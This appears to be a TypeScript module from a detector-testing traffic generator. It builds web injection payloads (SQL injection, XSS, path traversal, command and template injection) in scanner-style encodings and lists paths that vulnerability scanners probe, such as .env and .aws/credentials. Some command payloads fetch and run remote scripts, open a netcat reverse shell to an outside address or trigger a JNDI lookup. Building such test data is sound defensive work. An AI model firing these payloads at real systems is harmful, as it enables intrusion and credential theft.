// Injection payloads a probing client puts into query strings and path parameters,
// in the encodings real tools use (so a detector must decode before it matches).
import type { Rng } from './random.js';

export type PayloadClass = 'sqli' | 'xss' | 'traversal' | 'command' | 'template';

const PAYLOADS: Record<PayloadClass, readonly string[]> = {
  sqli: [
    "' OR '1'='1", "' OR 1=1-- -", "1' AND 1=1#", "1 UNION SELECT NULL,NULL,NULL--", "' UNION SELECT username,password FROM users--",
    "1; DROP TABLE users--", "1' AND SLEEP(5)--", "1) OR pg_sleep(5)--", "' AND extractvalue(1,concat(0x7e,version()))--",
    "admin'--", "1' ORDER BY 10--", "' UNION/**/SELECT/**/table_name/**/FROM/**/information_schema.tables--",
    "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
    "'; WAITFOR DELAY '0:0:5'--",
  ],
  xss: [
    '<script>alert(1)</script>', '"><svg/onload=alert(document.domain)>', "<img src=x onerror=alert('xss')>",
    'javascript:alert(1)', '<iframe src="javascript:alert(1)">', "'-alert(1)-'", '<body onload=confirm(1)>',
    '<ScRiPt>prompt(1)</sCrIpT>',
  ],
  traversal: [
    '../../../../etc/passwd', '..%2f..%2f..%2f..%2fetc%2fpasswd', '....//....//....//etc/passwd', '..\\..\\..\\windows\\win.ini',
    '/etc/shadow', '../../../../proc/self/environ', '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts',
  ],
  command: [';cat /etc/passwd', '|id', '`whoami`', '$(curl http://203.0.113.50/x.sh|sh)', '; wget http://198.51.100.7/bot -O /tmp/b', '&& nc -e /bin/sh 192.0.2.1 4444'],
  template: ['${jndi:ldap://198.51.100.23:1389/a}', '{{7*7}}', '${7*7}', '#{7*7}', "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", '${T(java.lang.Runtime).getRuntime().exec("id")}'],
};

const CLASS_WEIGHTS: ReadonlyArray<readonly [PayloadClass, number]> = [['sqli', 0.45], ['xss', 0.25], ['traversal', 0.15], ['command', 0.08], ['template', 0.07]];

/** Percent-encode what a client library must encode; keeps `'`, `(`, `)`, `*` and friends raw like curl does. */
function minimalEncode(text: string): string {
  return text.replace(/[^A-Za-z0-9\-._~!$'()*,;:@/]/g, (ch) => Array.from(Buffer.from(ch, 'utf8'), (b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join(''));
}

function fullEncode(text: string): string {
  return Array.from(Buffer.from(text, 'utf8'), (b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('');
}

/** Query encodings seen from scanners: plain, `+` for spaces, everything encoded, double-encoded, mixed case, %u. */
function encodeForQuery(payload: string, rng: Rng): string {
  const variant = rng.int(0, 5);
  switch (variant) {
    case 0:
      return minimalEncode(payload);
    case 1:
      return minimalEncode(payload.replace(/ /g, '\u0000')).replace(/%00/g, '+');
    case 2:
      return fullEncode(payload);
    case 3:
      return minimalEncode(payload).replace(/%/g, '%25');
    case 4:
      return minimalEncode(payload.replace(/[a-z]/gi, (c) => (rng.chance(0.5) ? c.toUpperCase() : c.toLowerCase())));
    default:
      return minimalEncode(payload).replace(/'/g, '%u0027').replace(/%3C/g, '%u003C');
  }
}

export interface InjectionPayload {
  payloadClass: PayloadClass;
  raw: string;
  encoded: string;
}

export function drawPayload(rng: Rng): InjectionPayload {
  let u = rng.next();
  let chosen: PayloadClass = 'sqli';
  for (const [name, weight] of CLASS_WEIGHTS) {
    if (u < weight) {
      chosen = name;
      break;
    }
    u -= weight;
  }
  const raw = rng.pick(PAYLOADS[chosen]);
  return { payloadClass: chosen, raw, encoded: encodeForQuery(raw, rng) };
}

/** Paths a vulnerability scanner or directory brute-forcer tries. */
export const SCANNER_PATHS: readonly string[] = [
  '/.env', '/.env.bak', '/.env.production', '/.git/config', '/.git/HEAD', '/.svn/entries', '/.DS_Store', '/.aws/credentials',
  '/wp-admin/', '/wp-login.php', '/wp-content/plugins/', '/xmlrpc.php', '/wp-config.php.bak', '/phpmyadmin/', '/pma/',
  '/phpinfo.php', '/info.php', '/admin/', '/admin.php', '/administrator/', '/manager/html', '/console', '/actuator/env',
  '/actuator/health', '/server-status', '/config.json', '/backup.zip', '/backup.sql', '/db.sql', '/dump.sql', '/site.tar.gz',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/luci', '/solr/admin/info/system', '/boaform/admin/formLogin',
  '/HNAP1/', '/owa/auth/logon.aspx', '/remote/login', '/api/swagger.json', '/swagger-ui.html', '/graphql', '/.well-known/security.txt',
  '/debug/pprof/', '/telescope/requests', '/_ignition/execute-solution', '/storage/logs/laravel.log', '/config/database.yml',
  '/.htaccess', '/web.config', '/crossdomain.xml', '/login.action', '/struts2-showcase/', '/jenkins/login', '/user/login',
];
const SCANNER_DIRS = ['', '/api', '/old', '/test', '/dev', '/backup', '/app', '/v1', '/static', '/public', '/assets', '/cms', '/shop', '/site'];
const SCANNER_FILES = ['index.php', 'config.php', 'admin.php', 'login.php', 'setup.php', 'install.php', 'shell.php', 'test.php', 'db.php', '.env', 'config.yml', 'settings.py', 'backup.tar', 'dump.sql', 'id_rsa', 'credentials.json', 'web.config', 'server.key'];

/** The n-th path of a scan: the famous ones first, then directory × file combinations. */
export function scannerPath(index: number, rng: Rng): string {
  if (index < SCANNER_PATHS.length) return SCANNER_PATHS[index] as string;
  const dir = rng.pick(SCANNER_DIRS);
  const file = rng.pick(SCANNER_FILES);
  return rng.chance(0.2) ? `${dir}/${rng.alnum(rng.int(3, 8))}/${file}` : `${dir}/${file}`;
}
